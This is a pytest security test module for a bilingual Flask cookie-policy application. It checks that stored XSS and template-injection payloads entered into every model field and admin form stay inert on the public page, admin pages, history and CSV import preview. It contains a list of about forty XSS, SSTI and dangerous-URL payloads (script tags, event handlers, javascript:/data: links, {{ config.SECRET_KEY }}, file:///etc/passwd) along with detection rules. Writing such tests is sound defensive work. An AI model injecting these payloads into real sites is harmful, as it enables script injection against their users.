"""Stored XSS: hostile text entered into every text field of every model, in French and
English, through the ORM and through the back-office forms, stays inert wherever it is
shown: the charte in both languages, the back-office lists, record pages, forms, flash
messages and history. "Inert" means: no script or style element without the response's
nonce, no element or attribute that came from the data (parsed with html.parser), template
syntax never evaluated, no ``javascript:``/``data:`` link on the charte. A field whose rule
refuses a payload (control characters, too long, not an address…) counts as inert, and the
form says why."""

import csv
import io
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from markupsafe import escape
from sqlalchemy import String, select

from models import Category, Cookie, Provider, Purpose, RecordChange, SiteSettings, db
from rules import validation
from rules.validation import InventoryError
from tests.helpers import field_errors, flashes, fresh, html_of, publish_draft, publish_if_changed

LONG = '"><svg onload=alert(1)>' * 160  # 3,680 characters: only the 4,000-character texts take it

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "`onmouseover=alert(1)` `",
    "xss{{7*7}}xss",
    "{% raw %}xss{{7*7}}xss{% endraw %}",
    "xss${7*7}xss",
    "xss#{7*7}xss <%= 7*7 %>",
    "{{ config.SECRET_KEY }}{{ self.__init__.__globals__ }}",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<a href="javascript:alert(1)">cliquez</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E; &amp; &quot;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<!-- ]]> <![CDATA[ <script>alert(1)</script> ]]>",
    "\u202egnp.exe <b dir=rtl>",
    "cook\u200bie\u2060name\u200d",
    "première ligne\ndeuxième <b>ligne</b>\n\nparagraphe <i>suivant</i>",
    "nul\x00<script>alert(1)</script>",
    "escape\x1b[31m rouge",
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/?q=<svg/onload=alert(1)>&x='y'",
    'x"onmouseover="alert(1)"@evil.example',
    'O\'Reilly & "Fils" <Cie>',
    LONG,
]
TEMPLATE_MARKERS = ("xss49xss",)
FORBIDDEN_TAGS = {"iframe", "svg", "math", "mtext", "mglyph", "base", "object", "embed", "img", "marquee"}
# The policy's own <details> (foldable sections) carry nothing but "open"; any other attribute on
# one is an injection (ontoggle…), caught with every other attribute below.
OUR_DETAILS_ATTRIBUTES = {"open"}
# Same-origin scripts the pages load on purpose (the CSP allows 'self'); any other script must
# carry the response's nonce.
OUR_SCRIPTS = ('<script src="/static/charte.js" defer>',)
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
MODELS = (Provider, Category, Purpose, Cookie, SiteSettings)
# The one Flask-Admin link that is a script URL on purpose (menus opened by static/admin-csp.js).
ADMIN_MENU_LINK = "javascript:void(0)"


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 30


def text_fields(model):
    """Every text column of a model (the ones the legal team types into)."""
    return [
        attr.key
        for attr in model.__mapper__.column_attrs
        if isinstance(attr.columns[0].type, String) and attr.key != "id"
    ]


def accepted(model, name, value):
    """The value the model keeps for this field, or None when its rule refuses it."""
    try:
        return model.check_field(name, value)
    except InventoryError:
        return None


# --- What "inert" means --------------------------------------------------------------------


class Elements(HTMLParser):
    """Every element of a page with its attributes, and the text of its scripts and styles."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.code = []
        self._raw = None

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        if tag in ("script", "style"):
            self._raw = tag
            self.code.append("")

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw:
            self.code[-1] += data


def scheme_of(url):
    """The scheme a browser sees: it ignores whitespace and control characters anywhere."""
    return "".join(ch for ch in (url or "") if not (ch.isspace() or unicodedata.category(ch) == "Cc")).lower()


def assert_inert(response, where, payloads=PAYLOADS, charte=False):
    html = response if isinstance(response, str) else html_of(response)
    problems = []
    for tag in re.findall(r"<(?:script|style)\b[^>]*>", html, re.I):
        if "nonce=" not in tag and tag not in OUR_SCRIPTS:
            problems.append(f"element without the nonce: {tag[:80]}")
    for marker in TEMPLATE_MARKERS:
        if marker in html:
            problems.append(f"template syntax evaluated: {marker}")
    for payload in payloads:
        if any(ch in payload for ch in '<>"') and payload in html:
            problems.append(f"payload written unescaped: {payload[:60]!r}")
    parser = Elements()
    parser.feed(html)
    for tag, attrs in parser.elements:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"injected element <{tag}>")
        if tag == "details" and {name for name, _ in attrs} - OUR_DETAILS_ATTRIBUTES:
            problems.append(f"injected attributes on <details>: {attrs}")
        if tag == "meta" and any(name == "http-equiv" and (value or "").lower() == "refresh" for name, value in attrs):
            problems.append("injected <meta http-equiv=refresh>")
        for name, value in attrs:
            if (
                name.startswith("on")
                or name in ("autofocus", "srcdoc", "formaction")
                or name.startswith(("`", '"', "'"))
            ):
                problems.append(f"injected attribute {name}= on <{tag}>")
            if (
                name in ("href", "src", "action", "xlink:href", "data", "poster", "background")
                and scheme_of(value).startswith(DANGEROUS_SCHEMES)
                and (charte or value != ADMIN_MENU_LINK)
            ):
                problems.append(f"<{tag} {name}={value[:60]!r}>")
    for code in parser.code:
        if "alert(" in code or "evil.example" in code:
            problems.append(f"injected script or style: {code[:80]!r}")
    assert problems == [], f"{where}: " + "; ".join(problems[:10])


def assert_shown(response, texts, where):
    """The payloads are on the page as text: escaped once, neither dropped nor escaped twice."""
    html = html_of(response)
    missing = [text[:50] for text in texts if str(escape(text)) not in html]
    assert missing == [], f"{where}: not shown as text: {missing[:5]}"


# --- Hostile records, created through the ORM ----------------------------------------------


def fill(record, index, payload, fallbacks, skip=()):
    """Put ``payload`` into every text field; fields whose rule refuses it get a plain value."""
    kept = {}
    for name in text_fields(type(record)):
        if name in skip:
            continue
        value = accepted(type(record), name, payload)
        if value is None:
            value = fallbacks.get(name)
        else:
            kept[name] = value
        setattr(record, name, value)
    return kept


def fallbacks(model, index):
    return {
        Provider: {"name": f"xss provider {index}"},
        Category: {"key": f"xss{index}", "name_fr": f"Catégorie xss {index}", "description_fr": "Catégorie."},
        Purpose: {"description_fr": f"Finalité xss {index}"},
        Cookie: {
            "name": f"xss_cookie_{index}",
            "domain": "",
            "service_fr": f"Service xss {index}",
            "party": "first",
            "storage_kind": "http_cookie",
            "lifetime_unit": "days",
        },
        SiteSettings: {
            "site_name": "Site",
            "site_url": "https://site.example",
            "controller_name": "Responsable",
            "contact_email": "dpo@site.example",
            "consent_manager": "none",
        },
    }[model]


@pytest.fixture
def hostile(app):
    """One provider, category, purpose and cookie per payload, every text field holding it.
    Returns {model: [(id, {field: value kept})]}."""
    session = db.session
    made = {model: [] for model in (Provider, Category, Purpose, Cookie)}
    for index, payload in enumerate(PAYLOADS):
        records = {}
        for model in (Provider, Category, Purpose, Cookie):
            record = model()
            kept = fill(record, index, payload, fallbacks(model, index))
            records[model] = (record, kept)
        cookie = records[Cookie][0]
        cookie.provider, cookie.category = records[Provider][0], records[Category][0]
        cookie.purposes = [records[Purpose][0]]
        cookie.lifetime_amount = 30
        cookie.shown_on_policy = True
        session.add_all(record for record, _ in records.values())
        session.flush()
        for model, (record, kept) in records.items():
            made[model].append((record.id, kept))
    session.commit()
    return made


def kept_values(hostile, model, field):
    return [kept[field] for _, kept in hostile[model] if field in kept]


def test_each_payload_is_kept_verbatim_or_refused_by_the_model_rules(app, hostile):
    """The rules change nothing but surrounding spaces and line endings; what they refuse
    they refuse with a message the legal team can act on."""
    refused = 0
    for model in MODELS:
        for name in text_fields(model):
            for payload in PAYLOADS:
                try:
                    value = model.check_field(name, payload)
                except InventoryError as error:
                    assert str(error).strip(), (model.__name__, name)
                    refused += 1
                    continue
                if value is not None and name not in ("key", "domain", "country"):
                    assert value == payload.replace("\r\n", "\n").strip(), (model.__name__, name, payload[:30])
    assert refused > 0
    stored = fresh().scalars(select(Cookie.service_en).where(Cookie.name.like("%xss%"))).all()
    assert "xss{{7*7}}xss" in stored and "<script>alert('xss')</script>" in stored


DANGEROUS_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript://evil.example/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "https:evil.example",
    "file:///etc/passwd",
]
URL_FIELDS = {Provider: ("website", "privacy_policy_url"), SiteSettings: ("site_url", "contact_url")}


def test_url_fields_refuse_script_and_data_addresses():
    for model, names in URL_FIELDS.items():
        for name in names:
            for url in DANGEROUS_URLS:
                with pytest.raises(InventoryError):
                    setattr(model(), name, url)
    assert validation.url()("https://example.org/privacy") == "https://example.org/privacy"


def test_the_back_office_refuses_script_addresses_next_to_the_field(editor_client):
    message = "Saisissez une adresse web complète"
    for url in DANGEROUS_URLS[:3] + DANGEROUS_URLS[7:9]:
        page = editor_client.post(
            "/admin/provider/new/",
            data={"name": "Évil", "website": url, "privacy_policy_url": url, "csrf_token": editor_client.csrf},
        )
        errors = field_errors(page)
        for name in ("website", "privacy_policy_url"):
            assert errors.get(name), f"{url!r}: {errors}"
            assert any(message in text or "caractères de contrôle" in text for text in errors[name]), errors[name]
        assert_inert(page, f"refused form {url!r}")
    assert fresh().scalar(select(Provider.id).where(Provider.name == "Évil")) is None


# --- Where the hostile records are shown ----------------------------------------------------


def test_payloads_stay_inert_on_the_charte_in_both_languages(client, hostile):
    publish_draft("Enregistrements hostiles")  # their texts without English in French only
    for lang, service in (("fr", "service_fr"), ("en", "service_en")):
        page = client.get(f"/{lang}/cookies")
        assert page.status_code == 200
        assert_inert(page, f"/{lang}/cookies", charte=True)
        assert_shown(page, kept_values(hostile, Cookie, service), f"/{lang}/cookies {service}")
        assert_shown(page, kept_values(hostile, Provider, "name"), f"/{lang}/cookies providers")
        assert_shown(page, kept_values(hostile, Cookie, "name"), f"/{lang}/cookies names")


def test_payloads_stay_inert_in_the_back_office(app, editor_client, hostile):
    client = editor_client
    shown = {Cookie: "service_fr", Provider: "name", Purpose: "description_fr", Category: "name_fr"}
    views = {Cookie: "cookie", Provider: "provider", Purpose: "purpose", Category: "category"}
    for model, view in views.items():
        page = client.get(f"/admin/{view}/?page_size=100")
        assert_inert(page, f"/admin/{view}/")
        assert_shown(page, kept_values(hostile, model, shown[model])[:40], f"/admin/{view}/")
        # Each record's own pages. A cookie's form also lists every provider, category and
        # purpose; purposes and categories bring no other kind of field, so a third of them do.
        records = hostile[model] if model in (Cookie, Provider) else hostile[model][::3]
        for ident, _ in records:
            for kind in ("details", "edit"):
                response = client.get(f"/admin/{view}/{kind}/?id={ident}")
                assert response.status_code == 200
                assert_inert(response, f"/admin/{view}/{kind}/?id={ident}")

    # Refusals that name the record: deleting providers and categories that cookies still use.
    for model, view in ((Provider, "provider"), (Category, "category")):
        ids = [str(ident) for ident, _ in hostile[model]]
        client.post(f"/admin/{view}/action/", data={"action": "delete", "rowid": ids, "csrf_token": client.csrf})
        page = client.get(f"/admin/{view}/")
        assert len(flashes(page)) >= len(ids), flashes(page)[:3]
        assert_inert(page, f"delete refusals on /admin/{view}/")


def test_payloads_stay_inert_in_the_history(app, editor_client, hostile):
    client = editor_client
    # A second version of every cookie, so that each payload is also a "before" and an "after".
    session = db.session
    cookies = [session.get(Cookie, ident) for ident, _ in hostile[Cookie]]
    for index, cookie in enumerate(cookies):
        # The name stays: cookie names are unique, and the next cookie still holds this one.
        fill(cookie, index, PAYLOADS[(index + 1) % len(PAYLOADS)], fallbacks(Cookie, index), skip=("name",))
    session.commit()
    for model in ("cookie", "provider", "purpose", "category"):
        page = client.get(f"/admin/history/?model={model}")
        assert_inert(page, f"/admin/history/?model={model}")
    for model, name in ((Cookie, "cookie"), (Provider, "provider"), (Purpose, "purpose"), (Category, "category")):
        for ident, _ in hostile[model]:
            assert_inert(client.get(f"/admin/history/{name}/{ident}"), f"/admin/history/{name}/{ident}")

    # Restoring names the record in its confirmation.
    for ident, _ in hostile[Purpose]:
        change = fresh().scalar(
            select(RecordChange.id).where(RecordChange.model == "purpose", RecordChange.record_id == ident)
        )
        client.post(f"/admin/history/restore/{change}", data={"csrf_token": client.csrf})
    page = client.get("/admin/history/")
    assert len(flashes(page)) == len(hostile[Purpose])
    assert_inert(page, "restore confirmations")


def test_site_settings_payloads_stay_inert_everywhere(app, client, editor_client):
    settings = fresh().scalars(select(SiteSettings)).one()
    ident = settings.id
    published = 0
    for index, payload in enumerate(PAYLOADS):
        settings = db.session.get(SiteSettings, ident)
        fill(settings, index, payload, fallbacks(SiteSettings, index))
        db.session.commit()
        published += publish_if_changed(f"Réglages {index}") is not None
        for lang in ("fr", "en"):
            assert_inert(client.get(f"/{lang}/cookies"), f"/{lang}/cookies with settings {index}", charte=True)
        for kind in ("details", "edit"):
            assert_inert(editor_client.get(f"/admin/settings/{kind}/?id={ident}"), f"settings {kind} {index}")
    assert published > len(PAYLOADS) // 2  # most payloads were on a published page
    assert_inert(editor_client.get("/admin/settings/"), "/admin/settings/")
    assert_inert(editor_client.get(f"/admin/history/settings/{ident}"), "settings history")
    assert_inert(editor_client.get("/admin/history/?model=settings"), "recent settings changes")


def import_preview(client, rows, filename="hostile.csv"):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return client.post(
        "/admin/import/preview",
        data={"file": (io.BytesIO(out.getvalue().encode()), filename), "format": "", "csrf_token": client.csrf},
        content_type="multipart/form-data",
    )


def exported_rows(client):
    exported = client.get("/admin/export/csv", buffered=True).get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(exported)))


def importable(payload):
    return payload.replace("\x00", "").replace("\x1b", "")[:255]


def test_an_import_preview_of_hostile_values_stays_inert(app, editor_client, hostile):
    if "import.preview" not in app.view_functions:
        pytest.skip("no import in the back office")
    rows = exported_rows(editor_client)
    for index, row in enumerate(rows):
        row["service_fr"] = importable(PAYLOADS[(index + 3) % len(PAYLOADS)])
    page = import_preview(editor_client, rows, filename="<b>hostile</b>.csv")
    assert page.status_code == 200
    assert_inert(page, "import preview")


def test_an_import_preview_of_rejected_hostile_rows_stays_inert(app, editor_client):
    if "import.preview" not in app.view_functions:
        pytest.skip("no import in the back office")
    rows = exported_rows(editor_client)
    hostile = [importable(payload) for payload in PAYLOADS[:8]]
    for row, payload in zip(rows, hostile):
        row["category"] = payload[:40]
        row["party"] = payload[:40]
    page = import_preview(editor_client, rows)
    assert page.status_code == 200
    assert_inert(page, "import preview of rejected rows", payloads=[payload[:40] for payload in hostile])


# --- The same payloads typed into the back-office forms -------------------------------------

FORM_PAYLOADS = [PAYLOADS[i] for i in (0, 2, 5, 8, 13, 19, 29, 30, 31, 32, 34, 38)]
FORMS = {
    # view: (model, the form's fixed fields, the text fields that receive the payload)
    "provider": (Provider, {"country": ""}, ("name", "website", "privacy_policy_url")),
    "purpose": (Purpose, {}, ("description_fr", "description_en")),
    "category": (
        Category,
        {"consent_required": "y", "position": "70"},
        ("key", "name_fr", "name_en", "description_fr", "description_en"),
    ),
    "cookie": (
        Cookie,
        {
            "party": "third",
            "storage_kind": "local_storage",
            "lifetime_unit": "months",
            "lifetime_amount": "6",
            "shown_on_policy": "y",
        },
        ("name", "domain", "service_fr", "service_en", "notes"),
    ),
}


def plain_value(name, index):
    """A value every rule accepts, unique per form."""
    if name in ("website", "privacy_policy_url"):
        return f"https://provider{index}.example/"
    if name == "key":
        return f"form{index}"
    if name == "domain":
        return ""
    if name == "name":
        return f"form_value_{index}"
    return f"Texte {index}"


def refusals(model, names, payload):
    return {name for name in names if accepted(model, name, payload) is None}


def test_payloads_typed_into_the_forms_are_kept_or_refused_with_a_message(app, editor_client, client):
    from tests.helpers import seed_objects

    provider, category, purpose = seed_objects()
    links = {"provider": str(provider.id), "category": str(category.id), "purposes": [str(purpose.id)]}
    saved = 0
    for view, (model, fixed, names) in FORMS.items():
        for index, payload in enumerate(FORM_PAYLOADS):
            data = {**fixed, **(links if model is Cookie else {}), "csrf_token": editor_client.csrf}
            refused = refusals(model, names, payload)
            data.update(dict.fromkeys(names, payload))
            page = editor_client.post(f"/admin/{view}/new/", data=data)
            if refused:
                # The form comes back, inert, saying which fields were refused.
                assert page.status_code == 200, (view, payload[:30])
                assert_inert(page, f"refused {view} form {payload[:30]!r}")
                errors = field_errors(page)
                assert refused <= set(errors), (view, payload[:30], refused, errors)
                assert all(errors[name] for name in refused)
                if any(unicodedata.category(ch) == "Cc" and ch not in "\n\t" for ch in payload):
                    assert any("caractères de contrôle" in text for name in refused for text in errors[name]), errors
                # Then with plain values in the refused fields, so that the rest is saved.
                data.update({name: plain_value(name, index) for name in refused})
                page = editor_client.post(f"/admin/{view}/new/", data=data)
            assert page.status_code == 302, (view, payload[:30], field_errors(page), flashes(page))
            saved += 1
            stored = fresh().scalars(select(model).order_by(model.id.desc()).limit(1)).one()
            for name in names:
                if name not in refused and name not in ("key", "domain"):
                    assert getattr(stored, name) == payload.replace("\r\n", "\n").strip(), (view, name, payload[:30])
    assert saved == len(FORMS) * len(FORM_PAYLOADS)
    assert publish_draft("Saisies hostiles") is not None
    for lang in ("fr", "en"):
        assert_inert(client.get(f"/{lang}/cookies"), f"/{lang}/cookies after the forms", charte=True)
    for view in FORMS:
        assert_inert(editor_client.get(f"/admin/{view}/?page_size=100"), f"/admin/{view}/ after the forms")
    assert_inert(editor_client.get("/admin/history/"), "/admin/history/ after the forms")
